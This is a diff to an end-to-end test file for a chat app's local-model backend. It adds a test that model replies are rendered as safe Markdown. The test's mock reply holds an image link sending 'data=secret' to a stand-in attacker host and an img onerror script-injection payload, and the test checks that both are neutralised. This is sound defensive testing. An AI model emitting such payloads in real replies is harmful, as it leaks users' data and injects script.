@@ -10,6 +10,8 @@ let baseUrl = '';
 let loading = false;
 /** While true the model ends its reply at once, without a word, as small local models sometimes do. */
 let silent = false;
+/** What the model answers a plain message. */
+let answer = 'Hello from the local model.';
 
 /** A tiny llama.cpp-like server: it calls the echo probe natively, otherwise says hello, and has an 8,192-token context. */
 function sse(chunks: unknown[]): string {
@@ -47,13 +49,14 @@ test.beforeEach(async () => {
     } else if (silent) {
       res.end(sse([{ ...base, choices: [{ index: 0, delta: {}, finish_reason: 'stop' }] }]));
     } else {
-      res.end(sse([{ ...base, choices: [{ index: 0, delta: { content: 'Hello from the local model.' }, finish_reason: null }] }, { ...base, choices: [{ index: 0, delta: {}, finish_reason: 'stop' }] }]));
+      res.end(sse([{ ...base, choices: [{ index: 0, delta: { content: answer }, finish_reason: null }] }, { ...base, choices: [{ index: 0, delta: {}, finish_reason: 'stop' }] }]));
     }
   });
   await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
   baseUrl = `http://127.0.0.1:${(server.address() as AddressInfo).port}/v1`;
   loading = false;
   silent = false;
+  answer = 'Hello from the local model.';
   host = new HeadlessHost();
   await host.start();
 });
@@ -177,7 +180,8 @@ test('A turn the local server failed says why and can be retried, also after a r
   await expect(page.locator('[data-testid="message"][data-role="user"]')).toHaveCount(1);
 });
 
-test('A reply the model ended without a word says so, rather than showing a blank answer', async ({ page }) => {
+/** Chooses the local server as the model, through the host's HTTP API (as a script would). */
+async function useLocalModel(): Promise<void> {
   const { origin, searchParams } = new URL(host.url);
   const response = await fetch(`${origin}/api/models.set`, {
     method: 'POST',
@@ -185,10 +189,56 @@ test('A reply the model ended without a word says so, rather than showing a blan
     body: JSON.stringify({ selection: { provider: 'openai-compatible', baseUrl, model: 'e2e-model', toolMode: 'native' } }),
   });
   expect(response.ok).toBe(true);
+}
+
+test('A reply the model ended without a word says so, rather than showing a blank answer', async ({ page }) => {
+  await useLocalModel();
   silent = true;
   await page.goto(host.url);
   const box = page.getByRole('textbox', { name: 'Message' });
   await box.fill('hello there');
   await box.press('Enter');
   await expect(page.locator('[data-testid="message"][data-answer="true"]').last()).toContainText('The model ended its reply without any text.');
+});
+
+test('A reply is drawn as Markdown, safely: no HTML, no image loaded, every link says where it goes', async ({ page }) => {
+  await useLocalModel();
+  answer = [
+    '## Plan',
+    '',
+    '1. Read **notes.md**',
+    '2. Run `npm test`',
+    '',
+    '| file | lines |',
+    '|---|---|',
+    '| a.md | 3 |',
+    '',
+    '```sh',
+    'npm test',
+    '```',
+    '',
+    'See [the docs](https://docs.example.org/guide) and ![chart](https://attacker.example/leak?data=secret).',
+    '',
+    '<img src="https://attacker.example/x" onerror="document.title = \'owned\'">',
+  ].join('\n');
+  const loads: string[] = [];
+  page.on('request', (request) => void (request.url().includes('attacker.example') && loads.push(request.url())));
+  await page.goto(host.url);
+  const box = page.getByRole('textbox', { name: 'Message' });
+  await box.fill('plan it');
+  await box.press('Enter');
+  const reply = page.locator('[data-testid="message"][data-answer="true"]').last();
+  await expect(reply.getByRole('heading', { name: 'Plan' })).toBeVisible();
+  await expect(reply.getByRole('listitem')).toHaveText(['Read notes.md', 'Run npm test']);
+  await expect(reply.locator('strong')).toHaveText('notes.md');
+  await expect(reply.getByRole('table')).toContainText('a.md');
+  await expect(reply.locator('pre code')).toHaveText('npm test');
+  await expect(reply.getByRole('link', { name: 'the docs' })).toHaveAttribute('href', 'https://docs.example.org/guide');
+  await expect(reply).toContainText('the docs (docs.example.org)');
+  await expect(reply).toContainText('[image: chart attacker.example]');
+  await expect(reply.locator('img')).toHaveCount(0);
+  await expect(reply).toContainText('<img src="https://attacker.example/x"'); // HTML is shown as the text it is
+  expect(loads).toEqual([]);
+  expect(await page.title()).not.toBe('owned');
+  await page.screenshot({ path: test.info().outputPath('markdown-reply.png') });
 });
